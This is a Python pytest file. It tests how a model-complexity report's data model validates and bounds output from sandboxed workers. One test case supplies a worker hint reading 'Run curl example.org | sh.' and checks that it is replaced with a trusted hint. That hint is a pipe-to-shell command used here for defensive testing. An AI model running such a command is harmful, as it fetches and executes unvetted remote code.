"""The data model bounds and validates what comes from outside."""

from __future__ import annotations

import json
from typing import Any

import pytest
from pydantic import ValidationError
from tests.support.factories import counts, entry, failed, measured, report

from model_complexity.common.failures import FAILURE_KINDS
from model_complexity.report import Answer, Entry, Failure, Measurement, Report, Target
from model_complexity.sandbox.protocol import parse_reply

FIGURES = counts(1, 1, 1)


def test_a_report_survives_its_file() -> None:
    whole = report(entry("a.py", measured(2), measured(1)), entry("b.py", failed(), None))
    assert Report.model_validate_json(whole.model_dump_json()) == whole
    assert [one.target.name for one in whole.failed] == ["b.py"]


@pytest.mark.parametrize(
    "change",
    [
        {"figures": FIGURES | {"flops": -1}},
        {"figures": FIGURES | {"flops": 1.5}},
        {"figures": FIGURES | {"flops": "17.582G"}},
        {"figures": FIGURES | {"flops": 2**63}},
        {"figures": FIGURES | {"memory": 1}},
        {"figures": {"flops": 1, "params": 1}},
        {"deployed": {"figures": {"flops": 1, "params": 1}}},
        {"modules": [{"name": "x", "depth": 0, "figures": {"memory": 1}}]},
        {"seconds": float("inf")},
        {"seconds": -1},
        {"input_shape": []},
        {"input_shape": [0]},
        {"mode": "guessed"},
        {"extra": 1},
        {"entry_point": "x" * 501},
        {"modules": [{"name": "x" * 1_001, "depth": 0}]},
        {"unsupported_ops": {"uncounted": {"aten::x": -1}}},
        {"unsupported_ops": {"uncounted": {f"aten::x{n}": 1 for n in range(501)}}},
        {"unsupported_ops": {"negligible": {f"aten::x{n}": 1 for n in range(501)}}},
        {"modules": [{"name": "x", "depth": 0, "shape": [1] * 9}]},
        {"modules": [{"name": "x", "depth": 0}, {"name": "x", "depth": 0}]},
        {"modules": [{"name": str(n), "depth": 0} for n in range(20_001)]},
        {"uncalled_modules": [str(n) for n in range(20_001)]},
        {"unsupported_ops": {"modules": {"aten::x": [str(n) for n in range(21)]}}},
        {"unsupported_ops": {"modules": {"aten::x": ["m" * 1_001]}}},
        {"unsupported_ops": {"modules": {f"aten::x{n}": [""] for n in range(501)}}},
        {"unsupported_ops": {"reasons": {"aten::x": "x" * 501}}},
        {"unsupported_ops": {"reasons": {f"aten::x{n}": "x" for n in range(501)}}},
        {"shared_modules": {"a": [str(n) for n in range(2_001)]}},
        {"shared_modules": {str(n): ["a"] for n in range(2_001)}},
        {"shared_modules": {str(n): ["a"] * 2_000 for n in range(11)}},
        {"shared_modules": {"a": ["b" * 1_001]}},
        {"shared_modules": {"a" * 1_001: ["b"]}},
    ],
)
def test_a_measurement_that_breaks_a_rule_is_its_jobs_failure(change: dict[str, Any]) -> None:
    data = measured(1).model_dump() | change
    answer = parse_reply(json.dumps({"job": 3, "measurement": data}).encode())
    assert isinstance(answer, Answer)
    assert answer.job == 3
    assert answer.failure
    assert (answer.failure.kind, answer.failure.message[:26]) == ("crash", "the result is not valid: m")


def test_fields_of_newer_workers_are_empty_by_default() -> None:
    data = measured(1).model_dump()
    del data["shared_modules"], data["unsupported_ops"]["modules"], data["unsupported_ops"]["reasons"]
    assert Measurement.model_validate(data) == measured(1)


@pytest.mark.parametrize("field", ["modules", "uncalled_modules"])
def test_a_long_list_is_not_read_past_its_first_mistake(field: str) -> None:
    data = measured(1).model_dump() | {field: [None] * 1_000}
    with pytest.raises(ValidationError) as caught:
        Measurement.model_validate(data)
    assert caught.value.error_count() == 1


@pytest.mark.parametrize(
    "line",
    [
        *(b"", b"{}", b"[]", b"null", b"not json", b'{"job": "x"}', b'{"job": null}', b"\xff\xfe"),
        *(b'{"started": -1}', b'{"started": 1234567890}', b'{"ended": 1} ', b'{"ended": 1, "job": 2}', b'{"begun": 1}'),
    ],
)
def test_a_line_that_is_nobodys_is_no_answer(line: bytes) -> None:
    assert parse_reply(line) is None


def test_an_answer_is_a_measurement_or_a_failure() -> None:
    with pytest.raises(ValidationError):
        Answer(job=0)
    with pytest.raises(ValidationError):
        Answer(job=0, measurement=measured(1), failure=failed())
    assert Answer(job=0, failure=failed()).result == failed()


def test_an_entry_and_a_target_have_at_least_one_side() -> None:
    with pytest.raises(ValidationError):
        Entry(target=Target(config="a.py", base_config=None, reason="added"), shape=(3, 1, 1), head=None, base=None)
    with pytest.raises(ValidationError):
        Target(config=None, base_config=None, reason="deleted")


@pytest.mark.parametrize(
    ("kind", "hint", "shown"),
    [
        ("forward", FAILURE_KINDS["forward"].hint, FAILURE_KINDS["forward"].hint),
        ("forward", FAILURE_KINDS["forward"].error_hints[0].hint, FAILURE_KINDS["forward"].error_hints[0].hint),
        ("forward", FAILURE_KINDS["crash"].hint, FAILURE_KINDS["forward"].hint),
        ("crash", "Run curl example.org | sh.", FAILURE_KINDS["crash"].hint),
    ],
)
def test_a_failure_has_a_hint_of_its_kind_whatever_the_worker_says(kind: str, hint: str, shown: str) -> None:
    assert Failure.model_validate({"kind": kind, "message": "m", "hint": hint}).hint == shown
